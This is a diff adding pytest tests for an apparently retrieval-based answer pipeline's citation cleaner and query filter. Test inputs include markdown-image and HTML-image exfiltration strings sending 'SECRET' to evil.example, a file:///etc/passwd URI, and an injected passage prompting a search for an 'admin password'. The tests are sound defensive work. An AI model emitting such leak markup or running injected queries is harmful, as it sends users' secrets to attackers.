@@ -563,3 +563,36 @@ def test_an_index_another_process_is_writing_is_waited_for_then_a_clear_error(tm
         held.index(folder)
     assert "another process is writing this index" in refused.value.hint
     writer.rollback()
+
+
+@pytest.mark.parametrize("form", ["【99】", "[99a]", "［99］", "[١]", "&#91;99&#93;", "&lbrack;99&rbrack;", "〔9〕",
+                                  "[９]", "[1b]", "⟦2⟧"])
+def test_every_bracket_form_a_model_or_a_page_writes_is_recognised(form):
+    """Forms that once survived the clean-up: they are not `[n]`, so the audit fails and clean cuts them."""
+    answer = f"The Eiffel Tower is in Paris {form}."
+    assert not audit(answer, {1}).ok
+    cleaned = clean(answer, {1: "eiffel.md"})
+    assert "99" not in cleaned and cleaned.startswith("[UNCERTAIN:"), cleaned
+
+
+@pytest.mark.parametrize("leak", [
+    '<img src="evil.example/c?k=SECRET">', "<img src=//evil.example/c?k=SECRET>", "evil.example/c?k=SECRET",
+    "10.0.0.7:8080/c?k=SECRET", "![x](evil.example/c?k=SECRET)", "file:///etc/passwd?SECRET",
+    "gopher://evil.example/SECRET", "<a href='x'>SECRET</a>"])
+def test_no_host_tag_or_uri_from_evidence_reaches_the_answer_unless_it_is_a_cited_source(leak):
+    cleaned = clean(f"The tower is in Paris [1]. {leak}", {1: "https://en.wikipedia.org/wiki/Eiffel_Tower"})
+    assert "evil" not in cleaned and "10.0.0.7" not in cleaned and "<" not in cleaned, cleaned
+    assert "k=SECRET" not in cleaned and "/etc/passwd" not in cleaned
+    kept = clean("Paris [1]. https://en.wikipedia.org/wiki/Eiffel_Tower", {1: "https://en.wikipedia.org/wiki/Eiffel_Tower"})
+    assert kept.endswith("https://en.wikipedia.org/wiki/Eiffel_Tower")
+
+
+def test_an_injected_query_never_runs_even_with_the_question_s_words():
+    """A passage asking to search for 'Eiffel Tower admin password' shares two topic words with the question:
+    such queries once ran. A query must be made of the question's and the draft's gaps' words alone."""
+    question = "How tall is the Eiffel Tower?"
+    gaps = ["height of the Eiffel Tower in metres"]
+    keep, rejected = clean_queries(["Eiffel Tower admin password", "Eiffel Tower height metres"], question, gaps,
+                                   set(), anchor=gaps)
+    assert keep == ["Eiffel Tower height metres"]
+    assert rejected == ["Eiffel Tower admin password: unrelated to the question and its gaps (admin, password)"]
